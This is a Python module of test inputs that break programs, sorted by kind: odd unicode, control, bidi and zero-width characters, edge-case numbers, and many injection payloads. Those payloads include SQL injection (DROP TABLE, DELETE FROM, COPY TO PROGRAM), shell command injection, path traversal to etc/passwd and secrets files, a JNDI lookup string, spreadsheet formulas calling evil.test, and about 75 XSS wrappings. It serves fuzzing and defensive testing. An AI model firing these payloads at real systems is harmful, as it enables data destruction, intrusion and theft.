"""Texts that break programs, by kind: what people paste, what attackers write, and what only machines would say."""

import html
from itertools import product
from urllib.parse import quote

# Separators that look like none, and letters of many scripts, planes and directions.
SPACES = (
    "\u0009\u0020\u0085\u00a0\u1680\u2000\u2003\u2007\u2009\u200a\u202f\u205f\u3000\u2028\u2029"
)
INVISIBLE = "\u00ad\u034f\u061c\u115f\u17b4\u180e\u200b\u200c\u200d\u2060\u2061\u2064\ufeff\uffa0\u3164\U000e0001\U000e0041"
DIRECTIONS = "\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
SCRIPTS = (
    "Zażółć gęślą jaźń", "ÅÄÖ åäö ﬁ ﬂ ß ẞ", "Ελληνικά", "Русский текст", "עברית", "العربية", "हिन्दी", "ไทยภาษา", "한국어",
    "日本語テキスト", "繁體中文", "简体中文", "𝕳𝖊𝖑𝖑𝖔", "𠀋𠂉𪚥", "ǅ ŉ ǰ ΐ", "i İ ı I", "ﷺ", "﷽", "ᚠᛇᚻ", "☭ ☮ ✡", "¿¡«»", "½ ⅛ ①②",
    "Å Å Å", "e\u0301 é", "\u0301\u0302\u0303", "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘", "ﾊﾟﾊﾟ ガ ｶﾞ", "Ω Ω", "K K", "ſs", "ﬀ", "\U0010ffff", "\ufffe",
    "\uffff", "\ufffd", "\ue000", "田中さんにあげて下さい", "部落格 社會科學院", "表ポあA鷗ŒéＢ逍Üßªąñ丂㐀𠀀", "Ⱥ Ⱦ", "ЀЂ", "ŐőŰű",
)  # fmt: skip
EMOJI = (
    "😍", "👩🏽", "👨‍👩‍👧‍👦", "🏳️‍🌈", "🇨🇳", "🇺🇸🇷🇺🇸", "🇺", "👾 🙇 💁 🙅", "❤️ 💔", "✋🏿 💪🏾", "0️⃣ 1️⃣", "🏴󠁧󠁢󠁥󠁮󠁧󠁿", "🫠🫥", "©️™️", "☺︎ ☺️", "🧑🏻‍❤️‍💋‍🧑🏿",
    "👩‍🚀" * 20, "\U0001f3fb", "\ufe0f", "\u200d👩",
)  # fmt: skip
NUMBERS = (
    "0", "-0", "00", "007", "1e1000", "1E-400", "-1", "1.0", ".5", "5.", "1,000", "1_000", "١٢٣", "０１２", "²³", "Ⅷ", "½", "0x10", "0b1",
    "0o17", "NaN", "nan", "-nan", "Infinity", "-Infinity", "inf", "1/0", "0/0", "2147483648", "-2147483649",
    "9007199254740993", "9223372036854775808", "18446744073709551616", "9" * 100, "1" + "0" * 200, "1.7976931348623157e309",
    "true", "False", "null", "None", "nil", "undefined", "[object Object]", "(void)0", "$1.00", "$ENV", "1;1", "01/02/2003",
    "2026-02-30", "24:00:00", "1e", "e1", "--1", "+1", "1-", "0,0", "१२", "一", "∞", "-", "+", ".",
)  # fmt: skip
SQL_TAILS = ("", " --", " #", "/*", "; --", "\x1a")
SQL = (
    "'", "''", "\"", "`", "' OR '1'='1", "\" OR \"\"=\"", "1; DROP TABLE generation_task", "'; DELETE FROM credits_transfer",
    "') UNION SELECT version(), null", "' AND pg_sleep(10)='", "\\'; SELECT 1", "$$; SELECT 1; $$", "E'\\x27'", "%' ESCAPE '\\",
    "_%", "%_%", "\\_", "' || (SELECT current_user) || '", "admin'", "1' ORDER BY 99", "COPY (SELECT 1) TO PROGRAM 'id'",
)  # fmt: skip
TEMPLATES = (
    "{}", "{0}", "{name}", "{{ 7*7 }}", "{{config}}", "{% debug %}", "{% load log %}", "{#x#}", "${7*7}", "#{7*7}", "<%= 7*7 %>",
    "{{constructor.constructor('alert(1)')()}}", "{{''.__class__.__mro__}}", "{self.__init__.__globals__}", "{0.__class__}",
    "@{x}", "*{7*7}", "~{x}", "[[${7*7}]]", "{{{raw}}}", "{{&x}}", "{{> part}}", "{user!r:>{width}}", "$(id)", "`id`", "$((1+1))",
    "${jndi:ldap://127.0.0.1/a}", "${${lower:j}ndi:x}", "%{(#a=1)}", "x-text=\"1\"", "{{", "}}", "{", "}", "{{{", "%}", "{%",
)  # fmt: skip
FORMATS = (
    "%s", "%d", "%n", "%(a)s", "%(code)s", "%", "%%", "%%%", "%5", "%s%s%s%s%s%s%n%n", "%x%x%x", "%p", "%c", "%.9999f", "%1$s",
    "%-99999s", "%*d", "%@", "%u0041", "%00", "%0a", "%zz", "\\0", "\\n", "\\r\\n", "\\u0000", "\\ud800", "\\x41", "\\", "\\\\", "\\\"",
)  # fmt: skip
PATH_ENDS = ("etc/passwd", "windows/win.ini", "proc/self/environ", "secrets.json")
PATHS = (
    "/", "//", ".", "..", "~", "~root", "/dev/null", "/dev/random", "CON", "PRN", "AUX", "NUL", "COM1", "LPT1.txt", "a:b", "\\\\host\\share",
    "C:\\", "file:///etc/passwd", "a/b", "a\\b", ".hidden", "-rf", "--help", "-", "; id", "| id", "&& id", "> x", "< x", "$HOME",
    "*", "?", "[a-z]", "a" * 255, "name.", "name ", "%2e%2e%2f", "..%c0%af", "..;/", "/./", "a/../../b", ".git/config",
)  # fmt: skip
FORMULAS = (
    "=1+1", "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil.test\",\"x\")", "+1+1", "-1+1", "@SUM(1)", "=@x", "\t=1+1", "\r=1+1", "\n=1+1",
    " =1+1", "＝1+1", "＋1", "－1", "＠SUM(1)", "=DDE(\"a\";\"b\";\"c\")", "=IMPORTXML(\"http://evil.test\",\"//a\")", "=WEBSERVICE(\"http://evil.test\")",
    "\"=1+1\"", "';=1+1", ",=1+1", "=1\",\"=2", "a,\"b\nc\",d", "\"", "\"\"", "\"\"\"", ";", "a;b;c", "a\tb", "%0a=1", "|x", "=", "+", "-", "@",
)  # fmt: skip
HEADERS = (
    "a: b", "X-Evil: 1", "a\r\nX-Evil: 1", "a\nSet-Cookie: a=b", "a\rX: y", "\r\n\r\n<html>", "Content-Length: 0", "a\x00b", "a;b=c",
    "a, b", "W/\"x\"", "\"quoted\"", "bytes=0-", "no-cache", "*/*", "text/html;q=0", "gzip", "Basic YTpi", "Bearer x", "=?utf-8?b?YQ==?=",
    "a%0d%0aX: y", "a\u010dX: y", "a\u560a\u560dX: y", "é", "订单-4711", "café-1", " a", "a ", "\ta", "a\t", "a  b", "\x7f", "\xa0", "\xff",
    "a" * 255, "a" * 256, "é" * 128, "订" * 85,
)  # fmt: skip
# Calls that a page would notice; each payload makes one.
CALL = "alert({})"
WRAPPINGS = (
    "<script>{}</script>", "<ScRiPt >{}</sCrIpT>", "<script src=//evil.test/x.js></script><script>{}</script>", "\"><script>{}</script>",
    "'><script>{}</script>", "</title><script>{}</script>", "</textarea><script>{}</script>", "</script><script>{}</script>",
    "--><script>{}</script>", "]]><script>{}</script>", "<<script>{}//<</script>", "<scr<script>ipt>{}</scr</script>ipt>",
    "<img src=x onerror={}>", "<img src=x onerror=\"{}\">", "\"><img src=x onerror={}>", "'><img src=x onerror={}>", "<img/src=x/onerror={}>",
    "<img src='x'onerror='{}'>", "<image src=x onerror={}>", "<svg onload={}>", "<svg/onload={}>", "<svg><script>{}</script></svg>",
    "<svg><animate onbegin={} attributeName=x dur=1s>", "<svg><a xlink:href=\"javascript:{}\"><text y=9>x</text></a></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src=x onerror={}>", "<body onload={}>", "<body onpageshow={}>", "<iframe src=\"javascript:{}\">",
    "<iframe srcdoc=\"<script>{}</script>\">", "<iframe onload={}>", "<object data=\"javascript:{}\">", "<embed src=\"javascript:{}\">",
    "<video src=x onerror={}>", "<video><source onerror={}></video>", "<audio src=x onerror={}>", "<input autofocus onfocus={}>",
    "<select autofocus onfocus={}>", "<textarea autofocus onfocus={}>", "<button autofocus onfocus={}>", "<details open ontoggle={}>",
    "<marquee onstart={}>", "<style>@import 'javascript:{}'</style>", "<link rel=stylesheet href=x onerror={}>",
    "<meta http-equiv=refresh content=\"0;url=javascript:{}\">", "<base href=\"javascript:{}//\">", "<form action=\"javascript:{}\"><input type=submit autofocus>",
    "<a href=\"javascript:{}\">x</a>", "<a href=\"java\tscript:{}\">x</a>", "<a href=\"&#106;avascript:{}\">x</a>", "<p onclick={}>x</p>",
    "\" onmouseover=\"{}", "' onmouseover='{}", "\" autofocus onfocus=\"{}", "` onmouseover=`{}", "\" x-data x-init=\"{}", "<div x-data x-init=\"{}\"></div>",
    "<div x-data=\"{}\"></div>", "<template x-if=\"{}\"><b></b></template>", "<b hx-on:load=\"{}\" hx-trigger=load>x</b>", "javascript:{}", "data:text/html,<script>{}</script>",
    "';{};//", "\";{};//", "`${{{}}}`", "\\\";{};//", "</style><script>{}</script>", "<noscript><p title=\"</noscript><img src=x onerror={}>\">",
    "<xss style=\"animation-name:x\" onanimationstart=\"{}\">", "<dialog open onclose={}>", "<isindex onfocus={} autofocus>", "\u2028{}", "<!--<img src=\"--><img src=x onerror={}//\">",
    "<table background=\"javascript:{}\">", "<keygen autofocus onfocus={}>", "<img srcset=x onerror={}>", "<picture><source srcset=x><img onerror={}></picture>",
)  # fmt: skip


def list_scripts() -> list[str]:
    """Return texts that would run a script where a page takes them for its own; each calls `alert` with its number."""
    return [
        wrapping.replace("{{", "{").replace("}}", "}").replace("{}", CALL.format(number))
        if "{{{" in wrapping
        else wrapping.replace("{}", CALL.format(number))
        for number, wrapping in enumerate(WRAPPINGS)
    ]


def list_by_kind() -> dict[str, list[str]]:
    """Return all texts by kind, each once; more than 500."""
    controls = [chr(code) for code in (*range(0x20), *range(0x7F, 0xA0))]
    kinds = {
        "unicode": [*SCRIPTS, "é" * 100, "𠀀" * 100, *(f"a{mark}" * 3 for mark in "\u0300\u0328\u20e3")],
        "control": [f"a{one}b" for one in controls] + ["\x1b[31mred\x1b[0m", "\x1b]0;title\x07", "a\r\nb", "\b\b\b"],
        "bidi": [f"abc{one}def" for one in DIRECTIONS] + ["\u202egpj.exe", "\u2067\u2067\u2066", "(\u202e)\u202c"],
        "zero width": [f"a{one}b" for one in INVISIBLE] + [f"{one}a" for one in INVISIBLE[-6:]],
        "spaces": [f"a{one}b" for one in SPACES] + [f" {one}a{one} " for one in SPACES] + [" ", "\u3000", "\t"],
        "emoji": list(EMOJI),
        "number": list(NUMBERS),
        "sql": [f"{one}{tail}" for one, tail in product(SQL, SQL_TAILS[:4])] + ["1\x1a", "a'b\"c`d"],
        "html": [*list_scripts(), "&", "&amp;", "&lt;b&gt;", "&#0;", "&#x110000;", "<", ">", "<b", "<!--", "<![CDATA[", html.escape("<b>")],
        "template": list(TEMPLATES),
        "format": list(FORMATS),
        "path": [*PATHS, *(f"{up * 6}{end}" for up, end in product(("../", "..\\", "%2e%2e/", "....//"), PATH_ENDS))],
        "formula": list(FORMULAS),
        "header": [*HEADERS, *(quote(one) for one in ("订单", "a b", "a\r\nb"))],
        "json": ['{"a":1}', "[]", '"', '{"__proto__":{"x":1}}', "__proto__", "constructor", "toString", '\\"', "a\\", "]}", "\ud800"[:0] + "{\"a\":"],
    }  # fmt: skip
    return {kind: list(dict.fromkeys(texts)) for kind, texts in kinds.items()}


KINDS = list_by_kind()
SCRIPTS_THAT_RUN = list_scripts()
